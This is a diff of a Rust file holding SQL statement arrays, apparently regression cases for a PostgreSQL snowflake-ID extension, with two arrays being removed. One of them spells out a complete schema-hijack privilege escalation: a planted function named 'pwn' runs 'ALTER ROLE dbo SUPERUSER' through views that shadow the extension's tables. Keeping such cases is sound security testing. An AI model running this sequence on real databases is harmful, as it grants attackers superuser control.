@@ -132,31 +132,3 @@ pub const RETYPED_NODES: [&str; 8] = [
     "ALTER TABLE snowflake_nodes DROP server_name",
     "ALTER TABLE snowflake_nodes RENAME TO other; CREATE VIEW snowflake_nodes AS SELECT 'x'::text AS node_id, 1 AS server_name",
 ];
-
-/// What a range handler had that read its tables without looking at their types.
-pub const RETYPED_RANGES: [&str; 8] = [
-    "SELECT snowflake_range_create('x', 10)",
-    "SELECT snowflake_range_next('x')",
-    "ALTER TABLE snowflake_range_names ALTER id DROP DEFAULT, ALTER id TYPE bigint USING 3735928559",
-    "SELECT snowflake_range_next('x')",
-    "DROP EXTENSION sequencer; CREATE EXTENSION sequencer; SELECT snowflake_range_create('x', 10)",
-    "DROP FUNCTION snowflake_range_source(text, bigint)",
-    "CREATE OR REPLACE FUNCTION snowflake_range_source(name text, INOUT size bigint, OUT id uuid, OUT names regclass,
-         OUT source regclass) LANGUAGE sql AS 'SELECT 1::bigint, NULL::uuid, 1::regclass, 1::regclass'",
-    "SELECT snowflake_range_next('x')",
-];
-
-/// How the owner of a database became superuser.
-pub const RANGE_HANDLER: [&str; 9] = [
-    "ALTER SCHEMA public RENAME TO old",
-    "CREATE SCHEMA public",
-    "GRANT USAGE ON SCHEMA public TO PUBLIC",
-    "CREATE SEQUENCE public.q",
-    "CREATE FUNCTION public.pwn() RETURNS regclass LANGUAGE plpgsql AS
-         $$BEGIN EXECUTE 'ALTER ROLE dbo SUPERUSER'; RETURN 'public.q'; END$$",
-    "CREATE VIEW public.snowflake_range_names AS SELECT 'x'::text AS name, public.pwn() AS counter",
-    "CREATE VIEW public.snowflake_ranges AS
-         SELECT 'x'::text AS name, 1::bigint first, 1::bigint size, now() claimed_at, ''::text claimed_by, 1 node_id",
-    "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC",
-    "SELECT count(*) FROM old.snowflake_range_list('x')",
-];
